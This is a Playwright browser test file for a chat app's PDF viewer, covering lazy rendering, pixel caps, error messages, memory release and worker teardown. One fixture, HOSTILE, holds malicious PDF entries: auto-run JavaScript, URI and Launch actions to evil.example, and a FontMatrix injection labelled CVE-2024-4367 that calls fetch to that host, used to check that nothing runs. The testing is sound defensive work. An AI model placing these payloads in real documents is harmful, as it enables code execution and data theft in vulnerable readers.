// PDFs in a real browser, under the page's own policy: what is painted, what is given back, what is refused (CHAT-03).
import { readdir, readFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import type { Page } from 'playwright-core';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { sharedOptions } from '../../scripts/build/options.ts';
import { closeBrowser } from '../../scripts/chromium.ts';
import { contentSecurityPolicy } from '../../server/http/security-headers.ts';
import { openPhoneContext } from '../harness/browser/phone-context.ts';
import { createPdf, type PdfInput, type PdfPageInput } from './pdf-fixture.ts';

const HOME = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
/** Nothing is written there; it only gives the names. */
const OUT = join(HOME, '.cache', 'pdf-page');
const ASSETS = join(HOME, 'dist', 'assets');
const ORIGIN = 'https://pdf.test';
const TYPES: Readonly<Record<string, string>> = { js: 'text/javascript', css: 'text/css' };

/** The reader's worker and its fonts as the product has them, below /assets/: to make them anew takes a quarter of a minute. */
async function readerFiles(): Promise<Map<string, Buffer>> {
  const names = await readdir(ASSETS, { recursive: true });
  const wanted = names.filter((name) => /^pdf-(worker-[^/\\]*\.js|fonts-.*[/\\].*)$/.test(name));
  const files = new Map<string, Buffer>();
  for (const name of wanted)
    files.set(`/assets/${name.replaceAll('\\', '/')}`, await readFile(join(ASSETS, name)));
  return files;
}

/** The page's files by their path, built as the product is. */
async function buildPage(): Promise<Map<string, Buffer>> {
  const files = await readerFiles();
  const worker = [...files.keys()].find((path) => path.includes('/pdf-worker-'));
  const font = [...files.keys()].find((path) => path.includes('/pdf-fonts-'));
  if (!worker || !font) throw new Error(`no reader of PDFs in ${ASSETS}: npm run build`);
  const define = {
    __PDF_WORKER_URL__: JSON.stringify(worker),
    __PDF_FONTS_URL__: JSON.stringify(font.replace(/[^/]*$/, '')),
  };
  const { outputFiles = [] } = await build({
    ...sharedOptions({ root: HOME, outdir: OUT, define }),
    entryPoints: { page: join(HOME, 'test', 'browser', 'pdf-harness.tsx') },
    entryNames: '[name]',
    format: 'esm',
    splitting: true,
    sourcemap: false,
  });
  for (const { path, contents } of outputFiles) files.set(path.slice(OUT.length), Buffer.from(contents));
  return files;
}
let built: Promise<Map<string, Buffer>> | undefined;

interface Opened {
  readonly page: Page;
  /** Paths asked for, in order. */
  readonly asked: string[];
  readonly complaints: string[];
  show(bytes: Uint8Array): Promise<void>;
}

async function open(options: { readonly without?: RegExp } = {}): Promise<Opened> {
  built ??= buildPage();
  const files = await built;
  const context = await openPhoneContext();
  const asked: string[] = [];
  const complaints: string[] = [];
  await context.route('**/*', (route) => {
    const { origin, pathname } = new URL(route.request().url());
    asked.push(origin === ORIGIN ? pathname : route.request().url());
    if (pathname === '/') {
      return route.fulfill({
        contentType: 'text/html',
        headers: {
          'content-security-policy': contentSecurityPolicy({
            scriptHashes: [],
            connectOrigins: [],
            frameOrigins: [],
          }),
        },
        body: '<!doctype html><meta name=viewport content="width=device-width"><link rel=icon href="data:,"><link rel=stylesheet href=/page.css><div id=app></div><script type=module src=/page.js></script>',
      });
    }
    const body = files.get(pathname);
    if (!body || options.without?.test(pathname)) return route.fulfill({ status: 404 });
    return route.fulfill({ body, contentType: TYPES[pathname.split('.').pop() ?? ''] ?? 'font/ttf' });
  });
  const page = await context.newPage();
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  await page.goto(ORIGIN);
  await page.waitForFunction('globalThis.show');
  return {
    page,
    asked,
    complaints,
    show: (bytes) => page.evaluate(`show(${JSON.stringify(Array.from(bytes))})`).then(() => {}),
  };
}

const COLORS: readonly PdfPageInput['color'][] = [
  [1, 0, 0],
  [0, 1, 0],
  [0, 0, 1],
  [1, 1, 0],
  [0, 1, 1],
];
const FIVE = COLORS.map((color, at): PdfPageInput => ({ color, text: `Page ${at + 1}` }));

const painted = (page: Page, number: number) =>
  page.waitForSelector(`[data-page="${number}"] canvas[data-painted="true"]`);

/** Of a page's canvas: its size, the pixel in its middle and one in its corner, and how many are dark at its top. */
const pixels = (page: Page, number: number): Promise<unknown> =>
  page.evaluate(`(() => {
    const canvas = document.querySelector('[data-page="${number}"] canvas');
    const { width, height } = canvas;
    const context = canvas.getContext('2d');
    const at = (x, y) => Array.from(context.getImageData(x, y, 1, 1).data.slice(0, 3));
    const top = context.getImageData(0, 0, width, Math.round(height / 8)).data;
    let dark = 0;
    for (let i = 0; i < top.length; i += 4) if (top[i] < 80) dark += 1;
    return { width, height, middle: at(width >> 1, height >> 1), corner: at(2, height - 3), hasText: dark > 200 };
  })()`);

test('CHAT-03 five pages are painted as they are reached: their colours, their words, at the screen’s width', async () => {
  const { page, asked, complaints, show } = await open();
  assert.equal(
    asked.filter((path) => /pdf/.test(path)),
    [],
    'nothing of the reader before it is needed',
  );
  await show(createPdf(FIVE));
  await painted(page, 1);
  for (let number = 1; number <= 5; number += 1) {
    await page.evaluate(`document.querySelector('[data-page="${number}"]').scrollIntoView()`);
    await painted(page, number);
    assert.equal(await pixels(page, number), {
      width: 720,
      height: 1018,
      middle: (COLORS[number - 1] ?? []).map((share) => share * 255),
      corner: [255, 255, 255],
      hasText: true,
    });
    assert.is(await page.getByRole('img', { name: `Page ${number} of 5` }).count(), 1);
  }
  // Far pages have given their canvas back, near ones have theirs.
  await page.waitForFunction(() => document.querySelectorAll('canvas').length <= 3);
  assert.is(await page.locator('[data-page="1"] canvas').count(), 0);
  const box = await page.locator('[data-page="1"]').boundingBox();
  assert.is(Math.round(box?.width ?? 0), 360);
  assert.is(Math.round(box?.height ?? 0), 509, 'its place is kept');
  // Back at the first one it is painted anew.
  await page.evaluate(`document.querySelector('[data-page="1"]').scrollIntoView()`);
  await painted(page, 1);
  assert.equal(complaints, []);
  assert.equal(
    asked.filter((path) => !path.startsWith('/')),
    [],
    'no other host is asked for anything',
  );
  assert.ok(
    asked.some((path) => path.includes('/pdf-fonts-')),
    'the font that the file lacks is ours',
  );
  await page.context().close();
});

test('CHAT-03 a page has at most five million pixels, and its own shape', async () => {
  const { page, show, complaints } = await open();
  await show(createPdf([{ color: [1, 0, 1], text: 'Long', size: [100, 4000] }]));
  await painted(page, 1);
  const { width, height } = (await pixels(page, 1)) as { width: number; height: number };
  assert.ok(width * height <= 5_000_000, `${width} × ${height}`);
  assert.ok(height <= 8192, `${height}`);
  const box = await page.locator('[data-page="1"]').boundingBox();
  assert.is(Math.round(box?.height ?? 0), 14_400);
  assert.equal(complaints, []);
  await page.context().close();
});

test('CHAT-03 what cannot be shown says why: damaged, with a password, more than 200 pages, no PDF at all', async () => {
  const { page, show, complaints } = await open();
  const says = async (bytes: Uint8Array, words: string): Promise<void> => {
    await show(bytes);
    await page.getByText(words).waitFor();
    assert.is(await page.locator('canvas').count(), 0);
  };
  const whole = createPdf(FIVE);
  await says(new TextEncoder().encode('%PDF-1.4\nnothing of the kind'), 'This PDF is damaged');
  await says(whole.slice(0, 60), 'This PDF is damaged');
  await says(new Uint8Array(0), 'This PDF is damaged');
  await says(createPdf(FIVE, { lock: true }), 'This PDF is protected by a password');
  const page201 = Array.from({ length: 201 }, (): PdfPageInput => ({ color: [1, 0, 0], text: 'x' }));
  await says(createPdf(page201), 'more than 200 pages');
  await show(createPdf(page201.slice(1)));
  await painted(page, 1);
  assert.is(await page.locator('[data-page]').count(), 200);
  assert.equal(complaints, []);
  await page.context().close();
});

test('CHAT-03 the last of 200 pages is painted as the first, with a handful of canvases at a time', async () => {
  const { page, show, complaints } = await open();
  const colorOf = (number: number): PdfPageInput['color'] => COLORS[number % COLORS.length] ?? [0, 0, 0];
  await show(
    createPdf(Array.from({ length: 200 }, (_, at) => ({ color: colorOf(at + 1), text: `Page ${at + 1}` }))),
  );
  await painted(page, 1);
  for (const number of [1, 100, 200]) {
    await page.evaluate(`document.querySelector('[data-page="${number}"]').scrollIntoView()`);
    await painted(page, number);
    const { middle } = (await pixels(page, number)) as { middle: unknown };
    assert.equal(
      middle,
      colorOf(number).map((share) => share * 255),
      `page ${number}`,
    );
    await page.waitForFunction(() => document.querySelectorAll('canvas').length <= 5);
  }
  assert.equal(complaints, []);
  await page.context().close();
});

/** Everything of which a PDF can be made to act: scripts, addresses, forms, files elsewhere, code in a font's matrix. */
const HOSTILE: PdfInput = {
  catalog: [
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\);globalThis.isHacked=1) >>',
    '/AA << /WC << /S /URI /URI (https://evil.example/close) >> >>',
    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (globalThis.isHacked=1) >>] >> >>',
    '/AcroForm << /XFA [(template) << /F (https://evil.example/xfa) >>] /Fields [] >>',
    '/URI << /Base (https://evil.example/) >>',
  ].join(' '),
  page: [
    '/AA << /O << /S /Launch /F (https://evil.example/launch) >> >>',
    '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 900] /A << /S /URI /URI (https://evil.example/link) >> >>',
    '<< /Type /Annot /Subtype /Screen /Rect [0 0 600 900] /AA << /PV << /S /URI /URI (https://evil.example/seen) >> >> >>]',
  ].join(' '),
  // CVE-2024-4367.
  font: '/FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.isHacked = 1; fetch\\("https://evil.example/font"\\); //)]',
};

test('CHAT-03 a PDF that wants to act is only painted: nothing runs, nothing is asked for but our own files', async () => {
  const { page, show, asked, complaints } = await open();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await show(createPdf(FIVE, HOSTILE));
  await painted(page, 1);
  const { middle } = (await pixels(page, 1)) as { middle: unknown };
  assert.equal(middle, [255, 0, 0]);
  // A tap where the link is, and leaving, are what its actions wait for.
  await page.locator('[data-page="1"]').click({ position: { x: 180, y: 250 } });
  const workers = await Promise.all(page.workers().map((worker) => worker.evaluate('typeof isHacked')));
  await page.evaluate('leave()');
  await page.waitForFunction(() => document.querySelector('canvas') === null);
  assert.equal([await page.evaluate('typeof isHacked'), ...workers], ['undefined', 'undefined']);
  assert.equal(dialogs, []);
  assert.is(page.url(), `${ORIGIN}/`);
  const ours = /^\/((page|pdf)[\w.-]*\.(js|css)|pdf-fonts-[\w./-]*)?$|^\/assets\//;
  assert.equal(
    asked.filter((path) => !ours.test(path)),
    [],
  );
  assert.equal(complaints, []);
  await page.context().close();
});

test('CHAT-03 after closing, the page holds no more than before: within 10 MB, whatever was shown', async () => {
  const { page, show } = await open();
  const session = await page.context().newCDPSession(page);
  await session.send('HeapProfiler.enable');
  const used = async (): Promise<number> => {
    await session.send('HeapProfiler.collectGarbage');
    const { usedSize } = await session.send('Runtime.getHeapUsage');
    return usedSize;
  };
  const look = async (made: readonly PdfPageInput[], at: number): Promise<void> => {
    await show(createPdf(made));
    await page.waitForSelector(`[data-page="${at}"]`);
    await page.evaluate(`document.querySelector('[data-page="${at}"]').scrollIntoView()`);
    await painted(page, at);
    await page.evaluate('leave()');
    await page.waitForFunction(() => document.querySelector('canvas') === null);
  };
  // The reader itself stays loaded: what counts is what a file leaves behind.
  await look(FIVE, 1);
  const before = await used();
  for (let round = 0; round < 3; round += 1) {
    await look(FIVE, 5);
    await look(
      Array.from({ length: 200 }, (): PdfPageInput => ({ color: [0, 0, 1], text: 'x' })),
      200,
    );
  }
  const grown = (await used()) - before;
  assert.ok(grown < 10 * 1024 * 1024, `${Math.round(grown / 1024)} kB more`);
  // And each worker with its own heap is gone, or goes without being asked again.
  await Promise.all(page.workers().map((worker) => worker.waitForEvent('close')));
  await page.context().close();
});

test('CHAT-03 leaving ends the worker, also in the middle of painting', async () => {
  const { page, show, complaints } = await open();
  await show(createPdf(FIVE));
  await page.waitForSelector('[data-page="1"]');
  assert.is(page.workers().length, 1);
  const ended = page.workers()[0]?.waitForEvent('close');
  await page.evaluate('leave()');
  await ended;
  assert.is(page.workers().length, 0);
  assert.equal(complaints, []);
  await page.context().close();
});

test('CHAT-03 a reader that cannot be loaded says so, with Retry', async () => {
  const { page, show } = await open({ without: /pdf-worker/ });
  await show(createPdf(FIVE));
  await page.getByText('The PDF viewer could not be loaded. Please try again.').waitFor();
  assert.is(await page.getByRole('button', { name: 'Retry' }).count(), 1);
  await page.context().close();
});

test.after(closeBrowser);
test.run();
